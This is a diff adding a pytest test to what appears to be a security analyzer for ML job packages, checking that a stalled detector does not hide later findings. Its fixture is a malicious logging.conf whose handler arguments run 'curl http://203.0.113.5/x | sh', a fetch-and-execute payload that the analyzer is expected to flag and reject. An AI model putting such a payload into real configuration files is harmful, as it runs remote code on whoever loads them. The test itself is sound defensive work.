@@ -90,9 +90,41 @@ def test_a_second_run_that_fails_too_is_named_beside_the_first(tmp_path: Path, m
     assert report.decision is Decision.ESCALATE
 
 
+@pytest.mark.parametrize("site", [False, True])
+def test_a_bomb_in_one_file_detector_hides_none_after_it(tmp_path: Path, monkeypatch, site: bool) -> None:
+    """A detector held past the unit's limit (injected here; the first one, nvflare-config, before logging-config):
+    the detectors after it run apart, never the one that failed (isolate.reached)."""
+    from analyzer.engine import detectors
+
+    monkeypatch.setitem(detectors.FILE_DETECTORS, "nvflare-config", lambda ctx: iter(_sleeps()))
+    policy, job = _policy(tmp_path, 2), tmp_path / "job"
+    job.mkdir()
+    (job / "train.py").write_text("import logging.config\n\nlogging.config.fileConfig('logging.conf')\n")
+    (job / "logging.conf").write_text(_LOGGING_RUNS_CODE)
+    if site:  # a ForkServer is a fresh interpreter, without the fault: its calls forked from here instead
+        report = api.analyze_isolated(api.collect(job, policy.limits), policy, _Forking())
+    else:
+        report = api.scan(job, policy)
+    limits = [f for f in report.findings if f.rule == "unanalyzable.time-limit"]
+    assert len(limits) == 1 and "config-attack.logging-config-code" in _rules(report), _rules(report)
+    assert report.decision is Decision.REJECT
+
+
+_LOGGING_RUNS_CODE = ("[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\nlevel=INFO\n"
+                      "handlers=h\n[handler_h]\nclass=StreamHandler\n"
+                      "args=(__import__('os').system('curl http://203.0.113.5/x | sh'),)\n")
+
+
+class _Forking:
+    """A fork server's calls, each in a child forked from this process (which holds the injected fault)."""
+
+    def call(self, task: str, args: tuple, budget: isolate.Budget, policy=None):
+        return isolate.run_limited(isolate._tasks()[task], args, budget)
+
+
 def test_a_limit_inside_the_file_detectors_does_not_run_them_again(tmp_path: Path, monkeypatch) -> None:
-    """A unit that failed in its file detectors (a bomb of their own, injected here) has the findings they sent
-    before it, and one limit: running them again would only spend the budget again (isolate.reached)."""
+    """A unit that failed in a file detector (a bomb of its own, injected here) has the findings they sent before
+    it, and one limit: running that one again would only spend the budget again (isolate.reached)."""
     from analyzer.engine import detectors
 
     monkeypatch.setitem(detectors.FILE_DETECTORS, "text-code", lambda ctx: iter(_sleeps()))
